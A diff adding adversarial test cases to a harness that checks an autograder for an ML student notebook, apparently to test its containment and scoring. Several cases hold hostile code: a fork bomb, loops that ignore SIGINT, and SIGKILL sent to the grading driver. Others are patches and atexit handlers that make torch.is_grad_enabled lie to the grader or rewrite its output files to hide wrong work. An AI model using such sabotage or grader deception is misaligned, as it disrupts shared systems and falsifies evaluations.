+        code=HOPPER.replace("LIFETIME", "240"), tag="974"))), full=True, no_survivors="sleep 974",
+        **{"class": 3, "why": "a process that forks and exits every 2 ms (its pid never stays) and sabotages the outputs once the driver is gone"})
+
+    # --- 4: later cells break the CSV after a correct export (a new last cell)
+    unreadable = dict(max={"q3_export": 0.67}, others_full=True)
+    wrong_col = dict(max={"q3_export": 1.34}, others_full=True)
+    csv_breaks = {
+        "csv_drop_column": ('_df.drop(columns=["snippet"]).to_csv(CSV_NAME, index=False)', unreadable),
+        "csv_truncated_rows": ("_df.iloc[: len(_df) // 2].to_csv(CSV_NAME, index=False)", unreadable),
+        "csv_nan_value": ('_c = _df.columns[-1]\n_df.loc[0, _c] = "[" + ",".join(["NaN"] + _df.loc[0, _c].strip("[]").split(",")[1:]) + "]"\n'
+                          "_df.to_csv(CSV_NAME, index=False)", unreadable),
+        "csv_labels_shuffled": ('_df["categoric"] = np.random.default_rng(0).permutation(_df["categoric"].to_numpy())\n'
+                                "_df.to_csv(CSV_NAME, index=False)", wrong_col),
+        "csv_deleted": ("os.remove(CSV_NAME)", unreadable),
+        "csv_index_column": ("_df.to_csv(CSV_NAME)", unreadable),
+        "csv_rows_reordered": ("_df.sample(frac=1, random_state=0).to_csv(CSV_NAME, index=False)", wrong_col),
+        "csv_values_rounded": ('for _c in _df.columns[4:]:\n    _df[_c] = ["[" + ",".join("%.2f" % float(v) for v in s.strip("[]").split(",")) + "]" for s in _df[_c]]\n'
+                               "_df.to_csv(CSV_NAME, index=False)", wrong_col),
+        "csv_snippets_blanked": ('_df["snippet"] = ""\n_df.to_csv(CSV_NAME, index=False)', wrong_col),
+        "csv_reexport_untrained": ("export_mantis(CSV_NAME, corpus, is_test, np.stack([np.asarray(snapshots[0])] * (EPOCHS + 1)))",
+                                   wrong_col),
+    }
+    for name, (edit, expectation) in csv_breaks.items():
+        add(name, sol(lambda n, e=edit: append_cell(n, _csv_case(e))), **expectation,
+            **{"class": 4, "why": "correct export, then a later cell damages the CSV left in the folder"})
+
+    # --- 5: containment
+    add("loop_top_of_q4_cell", sol(lambda n: prepend_to(n, SEP_DEF, "while True:\n    pass\n")),
+        question={"q4_separation": 0}, others_full=True, batch="slow",
+        **{"class": 5, "why": "an endless loop before separation_ratio is defined: only q4 may be lost"})
+    add("loop_after_export", sol(lambda n: append_to(n, EXPORT_CALL, "while True:\n    pass\n")), full=True, batch="slow",
+        **{"class": 5, "why": "an endless loop after the export (everything already done): nothing may be lost"})
+    add("loop_swallows_interrupt_q4", sol(lambda n: prepend_to(n, SEP_DEF, '''
+        import time
+        while True:
+            try:
+                time.sleep(0.5)
+            except KeyboardInterrupt:
+                pass
+        ''')), question={"q4_separation": 0}, others_full=True, batch="slow",
+        **{"class": 5, "why": "an endless loop that swallows KeyboardInterrupt in the q4 cell: only q4 may be lost"})
+    add("os_exit_in_hook_probe", sol(lambda n: replace(n, FORWARD, FORWARD + "        if x.shape[0] == 1:\n"
+                                                        "            import os; os._exit(1)\n")),
+        question={"q1_hook": 0}, others_full=True,
+        **{"class": 5, "why": "forward kills the kernel on a batch of one (only the q1 probe sends one): only q1 may be lost"})
+    add("os_exit_in_separation_probe", sol(lambda n: replace(n, SEP_BODY, "    if str(np.asarray(labels)[0]).startswith('class '):\n"
+                                                                 "        import os; os._exit(1)\n" + SEP_BODY)),
+        question={"q4_separation": 0}, others_full=True,
+        **{"class": 5, "why": "separation_ratio kills the kernel on the probe's labels: only q4 may be lost"})
+    add("hang_without_sigint_in_snapshot_probe", sol(
+        lambda n: replace(n, "    model.eval()\n    model.capture = True\n",
+                          "    if type(model).__name__ == 'ProbeModel' and not globals().get('_IN_TRAINING'):\n"
+                          "        import signal\n        signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                          "        while True:\n            pass\n"
+                          "    model.eval()\n    model.capture = True\n"),
+        lambda n: replace(n, TRAIN_ROWS, "globals()['_IN_TRAINING'] = True\n    " + TRAIN_ROWS),
+        lambda n: replace(n, TRAIN_RETURN, "globals()['_IN_TRAINING'] = False\n    " + TRAIN_RETURN)),
+        max={"q2_capture": 2}, others_full=True,
+        **{"class": 5, "why": "snapshot() hangs, ignoring SIGINT, when the q2 snapshot probe calls it: one q2 check at most"})
+    add("sys_exit_cell", sol(lambda n: insert_after(n, EXPORT_CALL, "import sys\nsys.exit('done here')\n")), full=True,
+        **{"class": 5, "why": "sys.exit() in a cell of its own after the export: nothing may be lost"})
+    add("sys_exit_in_export_mantis", sol(lambda n: replace(n, EXPORT_WRITE, "write_mantis_csv(path, corpus.titles, corpus.labels, "
+                                                                 "splits, snippets, snapshots)\n    import sys\n    sys.exit(0)")),
+        max={"q3_export": 1.34}, full_for=["q1_hook", "q2_capture", "q4_separation"],
+        **{"class": 5, "why": "export_mantis writes the file then raises SystemExit (never returns the path)"})
+    add("exit_in_last_cell", sol(lambda n: append_cell(n, "exit()\n")), full=True,
+        **{"class": 5, "why": "IPython's exit() in the last cell (a student closing up): nothing may be lost"})
+    add("memory_huge_caught", sol(lambda n: prepend_to(n, SEP_DEF, '''
+        try:
+            _big = np.ones(2**44, np.uint8)
+        except MemoryError:
+            _big = None
+        ''')), full=True, **{"class": 5, "why": "a 16 TiB allocation, caught: nothing may be lost"})
+    add("memory_huge_uncaught_q4", sol(lambda n: prepend_to(n, SEP_DEF, "_big = np.ones(2**44, np.uint8)\n")),
+        question={"q4_separation": 0}, others_full=True,
+        **{"class": 5, "why": "a 16 TiB allocation at the top of the q4 cell, not caught: only q4 may be lost"})
+    add("memory_touch_3gib", sol(lambda n: insert_after(n, IMPORTS, '''
+        import resource
+        _big = np.ones(3 * 2**30, np.uint8)
+        print("touched", _big.nbytes >> 20, "MiB; RLIMIT_DATA", resource.getrlimit(resource.RLIMIT_DATA),
+              "RLIMIT_AS", resource.getrlimit(resource.RLIMIT_AS), "RLIMIT_NPROC", resource.getrlimit(resource.RLIMIT_NPROC))
+        del _big
+        ''')), full=True, **{"class": 5, "why": "3 GiB really used then freed (a large but legitimate notebook): nothing may be lost"})
+    add("kill_driver_in_hook_probe", sol(lambda n: replace(n, FORWARD, FORWARD + "        if x.shape[0] == 1:\n"
+                                                           "            import os, signal; os.kill(os.getppid(), signal.SIGKILL)\n")),
+        question={"q1_hook": 0}, others_full=True,
+        **{"class": 5, "why": "forward kills the driver (its parent, same uid) in the q1 probe; ideal containment loses only q1"})
+    add("fork_hold_process_limit", sol(lambda n: insert_after(n, SEED_LINE, FORK_HOLD)), full=True, batch="nproc",
+        no_survivors="sleep 975",
+        **{"class": 5, "why": "a fork bomb stopped by the process limit (512 per uid), held for 60 s: itself loses nothing"})
+    add("control_beside_fork_hold", sol(lambda n: insert_after(n, SEED_LINE, "import time\ntime.sleep(10)  # a slow start\n")),
+        full=True, batch="nproc",
+        **{"class": 5, "why": "the solution (starting 10 s late, so its work overlaps the hold) graded at the same time as "
+                              "fork_hold_process_limit: must keep full marks"})
+
+    # --- 6: wrong work from honest-looking students
+    add("wrong_train_on_all_rows", sol(lambda n: replace(n, TRAIN_ROWS, "x_train, y_train = x, y")),
+        max={"q2_capture": 2}, others_full=True, **{"class": 6, "why": "trains on the held-out rows too"})
+    add("wrong_two_epochs_between_snapshots", sol(lambda n: replace(n, TRAIN_STEP, TRAIN_STEP + "\n        " + TRAIN_STEP)),
+        max={"q2_capture": 2}, others_full=True, **{"class": 6, "why": "two epochs of training between snapshots"})
+    add("wrong_snapshot_with_autograd", sol(lambda n: replace(n, SNAP_NOGRAD, "if True:  # no_grad not needed?")),
+        max={"q2_capture": 2}, others_full=True, **{"class": 6, "why": "snapshot passes run with autograd on"})
+    add("wrong_snapshot_first_batch_only", sol(lambda n: replace(n, SNAP_RETURN, "return parts[0]")),
+        max={"q2_capture": 0}, full_for=["q1_hook", "q4_separation"],
+        **{"class": 6, "why": "snapshot returns only its first batch of 256 rows"})
+    if kind == "text":
+        relu_side = lambda n: replace(n, HOOK, "self.embeddings = torch.relu(h).detach().cpu().numpy()")
+    else:
+        relu_side = lambda n: (replace(n, IMAGE_H, "_pre = self.fc1(torch.flatten(x, 1))\n        h = torch.relu(_pre)"),
+                               replace(n, HOOK, "self.embeddings = _pre.detach().cpu().numpy()"))
+    add("wrong_hook_relu_side", sol(relu_side), max={"q1_hook": 1.34}, others_full=True,
+        **{"class": 6, "why": "the hook reads the other side of the ReLU (charged at q1 only, by design)"})
+    add("wrong_epoch0_after_first_epoch", sol(lambda n: replace(n, EPOCH0, TRAIN_STEP + "  # warm-up\n    " + EPOCH0)),
+        max={"q2_capture": 2}, others_full=True, **{"class": 6, "why": "epoch 0 taken after one epoch of training"})
+    add("wrong_autograd_hidden_by_patch", sol(
+        lambda n: replace(n, SNAP_NOGRAD, "if True:  # no_grad not needed?"),
+        lambda n: append_cell(n, HIDE_GRAD_PATCH)),
+        max={"q2_capture": 2}, others_full=True,
+        **{"class": 6, "why": "autograd-on snapshots, hidden by a torch.is_grad_enabled that lies to its caller when that is "
+                              "the grader's probe model (patched in the last cell, so training still works)"})
+    add("wrong_autograd_hidden_atexit", sol(
+        lambda n: replace(n, SNAP_NOGRAD, "if True:  # no_grad not needed?"),
+        lambda n: append_cell(n, HIDE_GRAD_ATEXIT)),
+        max={"q2_capture": 2}, others_full=True,
+        **{"class": 6, "why": "autograd-on snapshots, hidden by an atexit handler that rewrites the probes' capture_grad flags"})
+    add("wrong_hook_slips_hidden_atexit", sol(
+        lambda n: replace(n, f"        if self.capture:\n            {HOOK}", "        self.embeddings = h  # always, attached"),
+        lambda n: append_cell(n, HIDDEN_SLIP_ATEXIT)),
+        max={"q1_hook": 0.67}, others_full=True,
+        **{"class": 6, "why": "hook always copies and keeps the autograd graph; an atexit handler rewrites hook.json to hide both"})
+    add("honest_float16_snapshots", sol(lambda n: replace(n, TRAIN_RETURN, TRAIN_RETURN + ".astype(np.float16)  # half the memory")),
+        full_for=["q1_hook", "q3_export", "q4_separation"],
+        **{"class": 6, "why": "snapshots kept as float16; export_mantis and separation_ratio are the reference ones"})
+    add("honest_float64_snapshots", sol(lambda n: replace(n, TRAIN_RETURN, TRAIN_RETURN + ".astype(np.float64)")), full=True,
+        **{"class": 6, "why": "snapshots kept as float64: correct work"})
+    add("honest_tensor_snapshots", sol(lambda n: replace(n, TRAIN_RETURN, "return torch.from_numpy(np.stack(snapshots))")), full=True,
+        **{"class": 6, "why": "train_and_capture returns one tensor (allowed by the notebook's text)"})
+    return cases
+
+
+# ------------------------------------------------------------------------------------------ checking
+def _scores(results: dict) -> dict[str, tuple[float, float]]:
+    return {t["name"]: (float(t["score"]), float(t["max_score"])) for t in results.get("tests", [])}
+
+
+def check_expectation(expectation: dict, results: dict, points: dict | None = None, survivors=()) -> list[str]:
+    """Violations of `expectation` by a results.json (Gradescope format); `survivors`: command lines of
+    processes alive after grading. Empty list: the grader did what a correct grader must."""
+    points = points or POINTS
+    got = _scores(results)
+    total = float(results.get("score", 0.0))
+    bad = []
+    named = set(expectation.get("question", {})) | set(expectation.get("max", {}))
+    for q, v in expectation.get("question", {}).items():
+        if abs(got.get(q, (0.0, 0.0))[0] - v) > TOL:
+            bad.append(f"{q} = {got.get(q, (0.0,))[0]:g}, expected {v:g}")
+    for q, v in expectation.get("max", {}).items():
+        if got.get(q, (0.0,))[0] > v + TOL:
+            bad.append(f"{q} = {got[q][0]:g}, expected at most {v:g}")
+    full = list(expectation.get("full_for", []))
+    if expectation.get("full"):
+        full = list(points)
+    elif expectation.get("others_full"):
+        full += [q for q in points if q not in named]
+    for q in dict.fromkeys(full):
+        if got.get(q, (0.0,))[0] < points[q] - TOL:
+            bad.append(f"{q} = {got.get(q, (0.0,))[0]:g}, expected full {points[q]:g}")
+    if "max_total" in expectation and total > expectation["max_total"] + TOL:
+        bad.append(f"total = {total:g}, expected at most {expectation['max_total']:g}")
+    if "outcome" in expectation:
+        outcome = results.get("extra_data", {}).get("outcome")
+        if outcome != expectation["outcome"]:
+            bad.append(f"outcome {outcome!r}, expected {expectation['outcome']!r}")
+    pattern = expectation.get("no_survivors")
+    if pattern:
+        alive = [s for s in survivors if pattern in s]
+        if alive:
+            bad.append(f"{len(alive)} process(es) matching {pattern!r} still alive after grading")
+    return bad
